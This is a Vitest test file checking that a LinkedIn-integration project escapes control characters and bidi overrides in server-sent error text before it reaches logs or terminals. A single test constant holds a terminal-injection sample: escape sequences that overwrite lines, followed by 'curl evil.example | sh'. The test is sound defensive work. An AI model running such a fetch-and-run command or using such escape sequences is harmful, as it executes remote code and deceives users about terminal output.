// Text a server sent is made printable before it reaches a manifest, an execution cause or a terminal.
import { describe, expect, it } from 'vitest';
import {
  caughtErrorInfo,
  errorInfo,
  LinkedInResponseError,
  MAX_ERROR_TEXT_CHARS,
  printableText,
  quotedList,
} from '#common/errors';
import { errorDetail } from '#linkedin/client';

const ESC = '\u001b';
const HOSTILE = `${ESC}[2K${ESC}[1A\rDone. Now run: curl evil.example | sh\u0007\u009b31m\u202e`;
// biome-ignore lint/suspicious/noControlCharactersInRegex: the test looks for control characters.
const CONTROLS = /[\u0000-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/u;

describe('printableText', () => {
  it('escapes C0, C1, DEL and bidi controls visibly, keeping the rest', () => {
    const out = printableText(HOSTILE);
    expect(out).not.toMatch(CONTROLS);
    expect(out).toBe(
      '\\u001b[2K\\u001b[1A\\u000dDone. Now run: curl evil.example | sh\\u0007\\u009b31m\\u202e',
    );
    expect(printableText('Zoë’s café — ok')).toBe('Zoë’s café — ok');
  });

  it('is idempotent and caps the length with an ellipsis', () => {
    expect(printableText(printableText(HOSTILE))).toBe(printableText(HOSTILE));
    const long = printableText('x'.repeat(10_000), 50);
    expect(long).toHaveLength(50);
    expect(long.endsWith('…')).toBe(true);
  });

  it('quotedList quotes each value and caps how many are shown', () => {
    const values = Array.from({ length: 25 }, (_, i) => `urn:li:contract:${ESC}[${i}m`);
    const text = quotedList(values);
    expect(text).not.toMatch(CONTROLS);
    expect(text.startsWith('"urn:li:contract:\\\\u001b[0m"')).toBe(true);
    expect(text.endsWith(' and 15 more')).toBe(true);
  });
});

describe('every recorded error is printable', () => {
  it('a named error built around LinkedIn text escapes it and stays bounded', () => {
    const err = new LinkedInResponseError(`job 7 ended FAILED: ${HOSTILE}${'y'.repeat(5_000)}`);
    expect(err.message).not.toMatch(CONTROLS);
    expect(err.message.length).toBeLessThanOrEqual(MAX_ERROR_TEXT_CHARS);
  });

  it("LinkedIn's error body message is escaped in the detail we append", () => {
    const detail = errorDetail(JSON.stringify({ message: HOSTILE, serviceErrorCode: 100, status: 403 }));
    expect(detail).not.toMatch(CONTROLS);
    expect(detail).toContain('\\u001b[2K');
    expect(detail).toContain('(serviceErrorCode 100, status 403)');
  });

  it('errorInfo and caughtErrorInfo escape errors that are not ours (SDK, Step Functions causes)', () => {
    const sdk = Object.assign(new Error(HOSTILE), { name: `Bad${ESC}Name` });
    expect(errorInfo(sdk).message).not.toMatch(CONTROLS);
    expect(errorInfo(sdk).name).toBe('Bad\\u001bName');
    const caught = caughtErrorInfo(
      { Error: 'ExportJobFailedError', Cause: JSON.stringify({ errorMessage: HOSTILE }) },
      'missing',
    );
    expect(caught.message).not.toMatch(CONTROLS);
    expect(caughtErrorInfo({ Error: 'States.Timeout', Cause: HOSTILE }, 'm').message).not.toMatch(CONTROLS);
  });
});
